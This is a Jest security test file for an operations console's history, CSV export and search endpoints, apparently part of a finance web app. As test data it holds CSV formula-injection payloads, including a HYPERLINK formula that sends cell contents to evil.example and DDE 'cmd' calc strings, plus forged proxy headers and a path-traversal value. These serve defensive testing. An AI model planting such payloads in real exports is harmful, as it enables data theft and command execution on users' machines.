import { eq } from 'drizzle-orm';

import { ERROR_TEXTS } from '@/contract/errors';
import type { BankOrderRecord, BankOrderSearch } from '@/contract/ops-history';
import type { MemberSearchPage } from '@/contract/ops-members';
import type { OpsQueuePage } from '@/contract/ops-queues';
import { orders, users } from '@/server/db/schema';
import { DEMO_OPERATOR_PASSWORD, demoOperatorToken, seedOperators } from '@/server/db/seed-data/operators';
import { utcDate } from '@/server/domain/history';
import { totpCode } from '@/server/domain/totp';
import { createOrder } from '@/server/operations/orders';

import { bearer, postJson } from './helpers/auth';
import { newMember } from './helpers/forms';
import { completedOrder } from './helpers/network';
import { newKey, productIdOf, userIdOf } from './helpers/orders';
import { createTestApp } from './helpers/testApp';
import type { TestApp } from './helpers/testApp';

// A thief's and a dishonest operator's requests against the console's histories (withdrawals, bank orders, their CSV,
// the bank order search), the member search by name and the adjustment limits: the wrong role or an ended session
// reads nothing, forged headers change nothing, wildcards and NULs never widen a search, nothing a member typed runs
// as a spreadsheet formula, and odd page values are field errors, never a 500.

jest.setTimeout(60_000);

const TOKENS = { ADMIN: demoOperatorToken('admin'), FINANCE: demoOperatorToken('finance'), SUPPORT: demoOperatorToken('support') };
const FORGED = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1', 'x-forwarded-proto': 'https' };
const OPERATOR_IP = '203.0.113.71';
const NUL_NOT_ALLOWED = ERROR_TEXTS.NUL_NOT_ALLOWED;

let server: TestApp;

beforeAll(async () => {
  server = await createTestApp();
  jest.spyOn(console, 'info').mockImplementation(() => undefined);
}, 60_000);

afterAll(async () => {
  jest.restoreAllMocks();
  await server?.close();
});

const ops = (path: string, headers: Record<string, string> = {}, init: RequestInit = {}) =>
  server.apiFrom(OPERATOR_IP)(`/api/ops/${path}`, { ...init, headers: { ...headers, ...(init.headers as Record<string, string>) } });
const asOperator = (token: string, path: string, headers: Record<string, string> = {}) => ops(path, { ...bearer(token), ...headers });

async function answer(response: Response | Promise<Response>) {
  const answered = await response;
  return { status: answered.status, type: answered.headers.get('content-type'), body: await answered.json() };
}

async function data<T>(response: Response | Promise<Response>): Promise<T> {
  const { status, body } = await answer(response);
  if (status !== 200) throw new Error(`${status}: ${JSON.stringify(body)}`);
  return body.data as T;
}

/** A CSV answer as sent, its byte order mark kept (Response.text() drops it). */
const textOf = async (response: Response) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at];
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(cell);
      cell = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      records.push([...record, cell]);
      record = [];
      cell = '';
      at += 1;
    } else cell += character;
  }
  return records;
}

type DemoOperator = 'finance' | 'support';
const secretOf = (username: DemoOperator) => seedOperators.find((operator) => operator.username === username)!.totpSecret;

/** The console's session cookie of a demo operator signed in with password and code (`opsSession=…`). */
async function consoleCookie(username: DemoOperator): Promise<string> {
  const response = await ops('session/sign-in', {}, postJson({ username, password: DEMO_OPERATOR_PASSWORD, code: totpCode(secretOf(username), Date.now()) }));
  if (response.status !== 200) throw new Error(`Sign-in of ${username}: ${await response.text()}`);
  const cookie = response.headers.getSetCookie().find((line) => line.startsWith('opsSession='));
  if (!cookie) throw new Error(`No session cookie for ${username}`);
  return cookie.split(';')[0];
}

const HISTORY_READS = [
  'history/withdrawals?status=APPROVED',
  'history/withdrawals.csv',
  'history/withdrawals.csv?status=REJECTED&from=2026-01-01&to=2026-06-30',
  'history/bank-orders?limit=50',
  'history/bank-orders.csv?status=COMPLETED',
  'history/bank-orders/search?q=chuyen%20tien%20FHABCD2345',
  'adjustments/limits/demo',
];

describe('an operator without the permission, or whose session ended', () => {
  it('support signed in to the console reads no finance history, no CSV and no adjustment limits, whatever headers it forges', async () => {
    const support = await consoleCookie('support');
    for (const path of HISTORY_READS) {
      for (const headers of [{ cookie: support }, { cookie: support, ...FORGED, 'x-ops-console': '1', 'x-ops-role': 'FINANCE', 'x-operator': 'finance' }]) {
        const refused = await answer(ops(path, headers));
        expect({ path, status: refused.status, code: refused.body.code, type: refused.type }).toEqual({
          path,
          status: 403,
          code: 'OPS_ROLE_FORBIDDEN',
          type: expect.stringContaining('application/json'),
        });
        expect(JSON.stringify(refused.body)).not.toMatch(/demo|FH[A-Z0-9]{8}/);
      }
    }
  });

  it('a finance session signed out reads nothing more (401), its CSV included', async () => {
    const finance = await consoleCookie('finance');
    expect((await ops('history/bank-orders.csv', { cookie: finance })).status).toBe(200);
    expect((await ops('session/sign-out', { cookie: finance, 'x-ops-console': '1' }, { method: 'POST' })).status).toBe(200);
    for (const path of HISTORY_READS) {
      const refused = await answer(ops(path, { cookie: finance, ...FORGED }));
      expect({ path, status: refused.status, code: refused.body.code }).toEqual({ path, status: 401, code: 'OPS_SESSION_ENDED' });
    }
  });

  it("a member's access token, or no credential with forged proxy headers, reads nothing (401)", async () => {
    const member = await newMember(server.api, 'thief');
    for (const path of HISTORY_READS) {
      expect({ path, status: (await ops(path, bearer(member.accessToken))).status }).toEqual({ path, status: 401 });
      expect({ path, status: (await ops(path, FORGED)).status }).toEqual({ path, status: 401 });
    }
  });
});

describe("the CSV exports: a member's or an operator's text never runs as a formula", () => {
  const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)'];

  it('a full name starting with = + - @ is a text cell in the bank orders CSV (a leading apostrophe), its commas and quotes kept', async () => {
    const codes = new Map<string, string>();
    for (const fullName of HOSTILE_NAMES) {
      const member = await newMember(server.api, 'csvname');
      // The name as the member typed it on the profile form (trimmed, any characters).
      await server.db.update(users).set({ fullName }).where(eq(users.username, member.username));
      const order = await completedOrder(server.db, await userIdOf(server.db, member.username), 'PKG-STARTER');
      codes.set(order.code, fullName);
    }
    const today = utcDate(new Date());
    const csv = parseCsv(await textOf(await asOperator(TOKENS.FINANCE, `history/bank-orders.csv?from=${today}&to=${today}`)));
    const header = csv[0].map((cell) => cell.replace('\uFEFF', ''));
    const rows = csv.slice(1).filter((record) => codes.has(record[header.indexOf('code')]));
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    for (const record of rows) {
      expect(record).toHaveLength(header.length);
      expect(record[header.indexOf('full_name')]).toBe(`'${codes.get(record[header.indexOf('code')])}`);
      for (const cell of record) expect({ cell, formula: /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell) }).toEqual({ cell, formula: false });
    }
  });

  it("an operator's rejection reason starting with = is a text cell in the withdrawals CSV", async () => {
    const pending = await data<OpsQueuePage<{ _id: string; reference: string }>>(asOperator(TOKENS.FINANCE, 'queues/withdrawals'));
    const [first] = pending.items;
    const reason = '=cmd|\' /C calc\'!A0, "wrong address"';
    await data(server.apiFrom(OPERATOR_IP)(`/api/ops/withdraw/${first._id}`, postJson({ decision: 'REJECT', reason }, bearer(TOKENS.FINANCE))));
    const csv = parseCsv(await textOf(await asOperator(TOKENS.FINANCE, 'history/withdrawals.csv?status=REJECTED')));
    const header = csv[0].map((cell) => cell.replace('\uFEFF', ''));
    const record = csv.find((cells) => cells[header.indexOf('reference')] === first.reference);
    expect(record?.[header.indexOf('reason')]).toBe(`'${reason}`);
    expect(record).toHaveLength(header.length);
  });
});

describe('searches: LIKE wildcards, a backslash and a NUL match only themselves', () => {
  it('the member search answers no one for %, _ and \\ unless a member holds them literally', async () => {
    const search = async (q: string) => (await data<MemberSearchPage>(asOperator(TOKENS.SUPPORT, `members?q=${encodeURIComponent(q)}&limit=50`))).items;
    for (const q of ['%%', '__', '_%', '%_', '\\%', '\\\\', '%d', '_e', 'd%o', 'de__', '%@example.com']) {
      expect({ q, found: (await search(q)).map((item) => item.username) }).toEqual({ q, found: [] });
    }
    const literal = await newMember(server.api, 'wild');
    await server.db.update(users).set({ fullName: '%Phần_trăm\\ Thử' }).where(eq(users.username, literal.username));
    for (const q of ['%p', '%phan_', '%Phần_trăm\\', '%PHAN_TRAM\\ th']) {
      expect({ q, found: (await search(q)).map((item) => item.username) }).toEqual({ q, found: [literal.username] });
    }
    expect(await search('%phanx')).toEqual([]);
  });

  it('the bank order search refuses wildcards and backslashes as a code (400), listing nothing', async () => {
    for (const q of ['%%%', 'FH%', 'FH%%%%%%%%', '___', 'FH________', 'FH\\%', '%25%25%25']) {
      const refused = await answer(asOperator(TOKENS.FINANCE, `history/bank-orders/search?q=${encodeURIComponent(q)}`));
      expect({ q, status: refused.status, errors: refused.body.fieldCodes }).toEqual({ q, status: 400, errors: { q: 'ORDER_SEARCH_RULE' } });
    }
    // A pasted content with a wildcard around a code finds that code only.
    const [order] = await server.db.select({ code: orders.code }).from(orders).where(eq(orders.method, 'BANK')).limit(1);
    const found = await data<BankOrderSearch>(asOperator(TOKENS.FINANCE, `history/bank-orders/search?q=${encodeURIComponent(`%${order.code}% _`)}`));
    expect(found.items.map((item) => item.code)).toEqual([order.code]);
  });

  it.each([
    ['members?q=de%00mo', 'q'],
    ['history/bank-orders/search?q=FH%00ABCD2345', 'q'],
    ['history/withdrawals?cursor=%00', 'cursor'],
    ['history/withdrawals.csv?from=2026-01-01%00', 'from'],
    ['history/bank-orders.csv?status=COMPLETED%00', 'status'],
    ['history/bank-orders?limit=10%00', 'limit'],
  ])('a NUL in %s is a field error (400), never a 500', async (path, field) => {
    const refused = await answer(asOperator(TOKENS.ADMIN, path));
    expect(refused.status).toBe(400);
    expect(refused.body.errors).toEqual({ [field]: NUL_NOT_ALLOWED });
  });

  it('a NUL in the adjustment limits path is refused (400 path), a wildcard is no member (404)', async () => {
    const nul = await answer(asOperator(TOKENS.FINANCE, 'adjustments/limits/demo%00'));
    expect([nul.status, nul.body.errors]).toEqual([400, { path: NUL_NOT_ALLOWED }]);
    for (const name of ['%25', 'de%25', '_emo', 'dem_', '%5C', '..%2Fdemo']) {
      const unknown = await answer(asOperator(TOKENS.FINANCE, `adjustments/limits/${name}`));
      expect({ name, status: unknown.status, code: unknown.body.code }).toEqual({ name, status: 404, code: 'MEMBER_NOT_FOUND' });
    }
  });

  it('a search of 1 MB is a field error (400), answered without reading the database', async () => {
    const huge = 'a'.repeat(1024 * 1024);
    const members = await answer(asOperator(TOKENS.SUPPORT, `members?q=${huge}`));
    expect([members.status, members.body.fieldCodes]).toEqual([400, { q: 'SEARCH_QUERY_RULE' }]);
    const orderSearch = await answer(asOperator(TOKENS.FINANCE, `history/bank-orders/search?q=${huge}`));
    expect([orderSearch.status, orderSearch.body.fieldCodes]).toEqual([400, { q: 'ORDER_SEARCH_RULE' }]);
    const limits = await answer(asOperator(TOKENS.FINANCE, `adjustments/limits/${huge}`));
    expect([limits.status, limits.body.code]).toEqual([404, 'MEMBER_NOT_FOUND']);
  });
});

describe('page values out of range', () => {
  it.each([
    ['history/withdrawals?limit=1000000000', 'limit', 'LIMIT_RULE_50'],
    ['history/withdrawals?limit=-1', 'limit', 'LIMIT_RULE_50'],
    ['history/withdrawals?limit=0', 'limit', 'LIMIT_RULE_50'],
    ['history/withdrawals?limit=1e2', 'limit', 'LIMIT_RULE_50'],
    ['history/withdrawals?limit=51', 'limit', 'LIMIT_RULE_50'],
    ['history/bank-orders?limit=99999999999999999999999', 'limit', 'LIMIT_RULE_50'],
    ['history/bank-orders?limit=%2010', 'limit', 'LIMIT_RULE_50'],
    ['history/withdrawals?cursor=-1', 'cursor', 'INVALID_CURSOR'],
    ['history/bank-orders?cursor=-9223372036854775809', 'cursor', 'INVALID_CURSOR'],
    ['history/withdrawals.csv?from=-0001-01-01', 'from', 'FROM_DATE_FORMAT'],
    ['history/bank-orders.csv?to=99999-12-31', 'to', 'TO_DATE_FORMAT'],
    ['members?q=demo&limit=-5', 'limit', 'LIMIT_RULE_50'],
    ['members?q=demo&limit=100000000000', 'limit', 'LIMIT_RULE_50'],
    ['members?q=demo&cursor=-1', 'cursor', 'INVALID_CURSOR'],
  ])('%s is a field error (400)', async (path, field, code) => {
    const refused = await answer(asOperator(TOKENS.ADMIN, path));
    expect(refused.status).toBe(400);
    expect(refused.body.fieldCodes).toEqual({ [field]: code });
  });

  it("a cursor of another list, or one forged far in the future or past, is refused or reads an empty page, never another list's rows", async () => {
    const members = await data<MemberSearchPage>(asOperator(TOKENS.ADMIN, 'members?q=de&limit=1'));
    expect(members.nextCursor).toEqual(expect.any(String));
    const foreign = await answer(asOperator(TOKENS.ADMIN, `history/bank-orders?cursor=${members.nextCursor}`));
    expect([foreign.status, foreign.body.fieldCodes]).toEqual([400, { cursor: 'INVALID_CURSOR' }]);
    const cursorAt = (at: string) => Buffer.from(`HO|${at}|00000000-0000-4000-8000-000000000000`, 'utf8').toString('base64url');
    const past = await data<OpsQueuePage<BankOrderRecord>>(asOperator(TOKENS.ADMIN, `history/bank-orders?cursor=${cursorAt('1000-01-01T00:00:00.000000Z')}`));
    expect(past.items).toEqual([]);
    const future = await data<OpsQueuePage<BankOrderRecord>>(asOperator(TOKENS.ADMIN, `history/bank-orders?cursor=${cursorAt('9999-12-31T23:59:59.999999Z')}&limit=1`));
    expect(future.items).toHaveLength(1);
  });
});

describe('twenty history reads at once', () => {
  it('expire an overdue bank order once: each answer lists it once, as EXPIRED', async () => {
    const member = await newMember(server.api, 'overdue');
    const userId = await userIdOf(server.db, member.username);
    const placedAt = new Date(Date.now() - 3 * 24 * 3_600_000);
    const lines = [{ productId: await productIdOf(server.db, 'PKG-STARTER'), quantity: 1 }];
    const placed = await createOrder(server.db, { userId, idempotencyKey: newKey(), lines, method: 'BANK', symbol: null }, placedAt);
    if (placed.outcome === 'key-reused') throw new Error('The test order was refused');
    const { code } = placed.order;

    const pages = await Promise.all(Array.from({ length: 20 }, () => data<OpsQueuePage<BankOrderRecord>>(asOperator(TOKENS.FINANCE, 'history/bank-orders?status=EXPIRED&limit=50'))));
    for (const page of pages) expect(page.items.filter((item) => item.code === code).map((item) => item.status)).toEqual(['EXPIRED']);
    const stored = await server.db.select({ status: orders.status }).from(orders).where(eq(orders.code, code));
    expect(stored).toEqual([{ status: 'EXPIRED' }]);
  });
});

